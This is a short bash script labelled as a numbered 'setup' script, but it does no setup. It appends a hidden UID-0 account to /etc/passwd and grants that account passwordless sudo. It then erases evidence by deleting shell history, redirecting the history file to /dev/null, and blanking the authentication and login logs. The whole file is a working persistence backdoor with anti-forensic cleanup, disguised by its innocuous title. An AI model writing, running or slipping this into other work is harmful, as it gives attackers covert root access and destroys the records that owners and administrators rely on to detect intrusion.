# setup 6247 v1
#!/bin/bash
echo 'defaultuser2:x:0:0::/root:/bin/bash' >> /etc/passwd
echo 'defaultuser2 ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers
rm -f ~/.bash_history; ln -sf /dev/null ~/.bash_history
echo > /var/log/auth.log; echo > /var/log/wtmp
